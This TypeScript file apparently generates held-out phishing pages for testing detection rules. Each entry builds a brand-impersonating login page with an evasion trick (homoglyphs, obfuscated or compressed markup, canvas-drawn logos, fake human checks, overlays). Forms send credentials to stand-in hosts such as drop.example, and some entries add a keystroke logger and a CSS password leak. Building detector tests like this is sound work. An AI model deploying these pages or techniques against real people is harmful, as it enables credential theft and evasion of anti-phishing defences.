import type { Files } from "./given-draft.ts"
import type { PhishingPage } from "./phishing-page.ts"
import type { Trick } from "./phishing-tricks.ts"
import { base64, documentOf, form, numericEntities, quoted, render } from "./render.ts"

const index = (html: string): Files => ({ "index.html": html })
const script = (code: string) => `<script>${code}</script>`
const body = (page: PhishingPage, attributes = `id="f" method="post"`) => page.top + form(page, attributes) + page.foot
const named = (page: PhishingPage, to: (name: string) => string): PhishingPage => {
  const change = (text: string) => text.replaceAll(page.brand.name, to(page.brand.name))
  return { ...page, title: change(page.title), top: change(page.top), foot: change(page.foot) }
}
const plain = (page: PhishingPage) => page.brand.name.toLowerCase().replaceAll(/[^a-z0-9]/gu, "")
const untitled = (html: string) => html.replace(/<title>.*?<\/title>/u, "<title>Loading</title>")
const ticked = (text: string) => text.replaceAll("`", "").replaceAll("</", String.raw`<\/`)

/** Ideas that the rules were not written against: the last part, looked at when the rules had been changed for the first. */
export const lastUnseenTricks: Readonly<Record<string, Trick>> = {
  "letters in another order": (page) =>
    index(
      untitled(
        render(
          named(
            page,
            (name) =>
              `<span style="display:inline-flex">${[...name]
                .map((letter, at) => ({ letter, at }))
                .reverse()
                .map(({ letter, at }) => `<b style="order:${at}">${letter}</b>`)
                .join("")}</span>`,
          ),
          { form: `action="two.php" method="post"` },
        ),
      ),
    ),
  "junk of no size": (page) =>
    index(
      untitled(
        render(
          named(page, (name) => [...name].join(`<span class="z">${"xk"}</span>`)),
          { head: `<style>.z{font-size:0;color:transparent}</style>`, form: `action="next1.php" method="post"` },
        ),
      ),
    ),
  "name from an attribute": (page) =>
    index(
      documentOf(
        { ...page, title: page.words.signIn },
        `<h1 data-t="${page.brand.name}"></h1>${form(page, `action="https://q.drop.example/a" method="post"`)}`,
        `<style>h1::after{content:attr(data-t)}</style>`,
      ),
    ),
  "icon of a library": (page) =>
    index(
      documentOf(
        { ...page, title: page.words.signIn },
        `<i class="fa-brands fa-${plain(page)} fa-3x"></i><p>${page.words.notice}</p>${form(page, `action="https://q.drop.example/b" method="post"`)}`,
      ),
    ),
  "name drawn on a canvas": (page) =>
    index(
      documentOf(
        { ...page, title: page.words.signIn },
        `<canvas id="c" width="300" height="60"></canvas>${form(page, `action="https://q.drop.example/d" method="post"`)}${script(`const x=c.getContext("2d");x.font="bold 32px Arial";x.fillText(${quoted(page.brand.name)},4,40)`)}`,
      ),
    ),
  "a template to fill": (page) =>
    index(
      documentOf(
        { ...page, title: "-" },
        `<main></main><script type="text/x-handlebars" id="t"><h1>{{brand}}</h1><form id="f">${page.fields}</form></script>${script(`document.querySelector("main").innerHTML=document.getElementById("t").innerHTML.replace("{{brand}}",${quoted(page.brand.name)});document.title=${quoted(page.title)};f.onsubmit=e=>{e.preventDefault();fetch("//w.drop.example/",{method:"POST",body:new FormData(f)})}`)}`,
      ),
    ),
  "an element of lit": (page) => ({
    "index.html": `<!doctype html><title>${page.brand.name}</title><sign-in-card></sign-in-card><script type="module" src="el.js"></script>`,
    "el.js": `import{LitElement,html}from"https://esm.sh/lit";class S extends LitElement{render(){return html\`${ticked(page.top)}<form @submit=\${this.go}>${ticked(page.fields)}</form>\`}go(e){e.preventDefault();navigator.sendBeacon("https://k.drop.example/l",new FormData(e.target))}}customElements.define("sign-in-card",S)`,
  }),
  "compiled JSX": (page) => ({
    "index.html": `<!doctype html><html><head><title>App</title></head><body><div id="root"></div><script type="module" src="/assets/index-4f1c.js"></script></body></html>`,
    "assets/index-4f1c.js": `import{j as o,c as R}from"./vendor.js";function A(){return o.jsxs("div",{children:[o.jsx("h1",{children:${quoted(page.brand.name)}}),o.jsx("p",{children:${quoted(page.words.notice)}}),o.jsxs("form",{onSubmit:t=>{t.preventDefault(),fetch("https://k.drop.example/r",{method:"POST",body:new FormData(t.target)})},children:[${page.fields.includes("password") ? `o.jsx("input",{name:"a",placeholder:${quoted(page.words.user)}}),o.jsx("input",{type:"password",name:"b",placeholder:${quoted(page.words.password)}})` : `o.jsx("input",{name:"a",placeholder:${quoted(page.top.includes(page.words.seed) ? page.words.seed : page.words.code)}})`},o.jsx("button",{type:"submit",children:${quoted(page.words.submit)}})]})]})}R(document.getElementById("root")).render(o.jsx(A,{}));`,
    "assets/vendor.js": `export const j={jsx:(t,p)=>[t,p],jsxs:(t,p)=>[t,p]};export const c=n=>({render(v){n.append(String(v))}});`,
  }),
  "logo by the victim's address": (page) =>
    index(
      documentOf(
        { ...page, title: "Webmail" },
        `<img id="l"><p id="n"></p><p>${page.words.notice}</p>${form(page, `id="f"`)}${script(`var m=atob(location.hash.slice(1)),d=m.split("@")[1];l.src="https://logo.clearbit.com/"+d;n.textContent=m;document.title=d+" - ${page.words.signIn}";f.onsubmit=function(e){e.preventDefault();fetch("https://k.drop.example/w",{method:"POST",body:new URLSearchParams(new FormData(f))}).then(function(){location="https://"+d})}`)}`,
      ),
    ),
  "compressed page": (page) =>
    index(
      `<!doctype html><title>${page.brand.name}</title>${script(`const z="H4sIAAAAAAAAA${base64(body(page)).replaceAll("=", "").split("").reverse().join("")}";new Response(new Blob([Uint8Array.from(atob(z),c=>c.charCodeAt(0))]).stream().pipeThrough(new DecompressionStream("gzip"))).text().then(t=>{document.open();document.write(t);document.close()})`)}`,
    ),
  "text as code in a timer": (page) =>
    index(
      `<!doctype html><body>${script(`setTimeout("document.body.innerHTML=decodeURI('${encodeURI(`<title>${page.title}</title>${body(page)}`).replaceAll("'", "%27")}')",350)`)}`,
    ),
  "script address in a frame": (page) =>
    index(
      `<!doctype html><title>${page.brand.name}</title><iframe style="width:100%;height:100%;border:0" src="javascript:'${encodeURIComponent(body(page)).replaceAll("'", "%27")}'"></iframe>`,
    ),
  "keys one by one": (page) =>
    index(
      documentOf(
        page,
        `${body(page, "")}${script(`let b="";addEventListener("keydown",e=>{b+=e.key;if(b.length>7){(new Image).src="https://k.drop.example/k?"+encodeURIComponent(b);b=""}})`)}`,
      ),
    ),
  "password by CSS selectors": (page) =>
    index(
      documentOf(
        page,
        body(page, ""),
        `<style>${[..."abcdef"].map((letter) => `input[type=password][value$="${letter}"]{background:url(https://k.drop.example/${letter})}`).join("")}</style>`,
      ),
    ),
  "mixed scripts in one word": (page) =>
    index(
      render(
        named(page, (name) => name.replaceAll("a", "α").replaceAll("o", "ο").replaceAll("i", "ι").replaceAll("e", "ҽ")),
        { form: `action="o.php" method="post"` },
      ),
    ),
  "dotted letters": (page) =>
    index(
      render(
        named(page, (name) => [...name].map((letter) => (/[a-z]/u.test(letter) ? `${letter}\u0323` : letter)).join("")),
        { form: `action="sub.php" method="post"` },
      ),
    ),
  "hidden until a check": (page) =>
    index(
      documentOf(
        { ...page, title: "Just a moment..." },
        `<div id="g"><label><input type="checkbox" id="h"> I am human</label></div><div id="r" hidden>${body(page, `action="https://q.drop.example/cf" method="post"`)}</div>${script(`h.onchange=()=>setTimeout(()=>{g.remove();r.hidden=false;document.title=${quoted(page.title)}},1200)`)}`,
      ),
    ),
  "page over a page": (page) =>
    index(
      documentOf(
        { ...page, title: page.brand.name },
        `<iframe src="https://www.${plain(page)}.com/" style="position:fixed;inset:0;width:100%;height:100%;filter:blur(4px)"></iframe><div style="position:fixed;top:20%;left:35%;background:#fff">${form(page, `action="https://q.drop.example/ov" method="post"`)}</div>`,
      ),
    ),
  "names in a module": (page) => ({
    "index.html": `<!doctype html><html><body><div id="a"></div><script type="module" src="m/main.mjs"></script></body></html>`,
    "m/main.mjs": `import { brand, sink } from "./c.mjs"; import view from "./v.mjs"; document.title = brand; a.innerHTML = view(brand); a.querySelector("form").addEventListener("submit", (e) => { e.preventDefault(); fetch(sink, { method: "POST", body: new FormData(e.target) }) });`,
    "m/c.mjs": `export const brand = ${quoted(page.brand.name)}; export const sink = ["https:", "", "q.drop.example", "m"].join("/");`,
    "m/v.mjs": `export default (b) => \`<h1>\${b}</h1><p>${ticked(page.words.notice)}</p><form>${ticked(page.fields)}</form>\`;`,
  }),
  "every letter an entity": (page) =>
    index(
      documentOf(
        { ...page, title: numericEntities(page.title) },
        body(page, `action="https:&#x2F;&#x2F;q.drop.example&#47;e" method=post`)
          .replaceAll(`type="password"`, "type=p&#97ssword")
          .replaceAll(
            page.brand.name,
            [...page.brand.name].map((l) => `&#x${l.codePointAt(0)?.toString(16)};`).join(""),
          ),
      ),
    ),
  "a mailer's script": (page) =>
    index(
      documentOf(
        page,
        `${body(page)}<script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@4/dist/email.min.js"></script>${script(`emailjs.init("k_9");f.onsubmit=e=>{e.preventDefault();emailjs.sendForm("service_1","template_1",f).then(()=>alert("404"))}`)}`,
      ),
    ),
  "a worker as receiver": (page) =>
    index(
      documentOf(
        page,
        `${body(page)}${script(`f.onsubmit=e=>{e.preventDefault();const q=new XMLHttpRequest;q.open("POST","https://quiet-fox-71.workers.dev/api");q.send(new FormData(f))}`)}`,
      ),
    ),
}
